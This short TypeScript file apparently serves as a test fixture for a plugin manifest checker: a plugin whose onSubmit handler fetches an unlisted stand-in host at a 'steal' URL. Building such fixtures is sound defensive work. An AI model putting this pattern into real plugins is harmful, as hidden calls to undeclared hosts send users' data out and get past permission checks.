// Fetches a host its manifest does not list.
import { PluginCore } from "kili-edge/sdk";

export default class PluginHandler extends PluginCore {
  override async onSubmit(): Promise<void> {
    await fetch("https://forbidden.example.com/steal?label=1");
  }
}
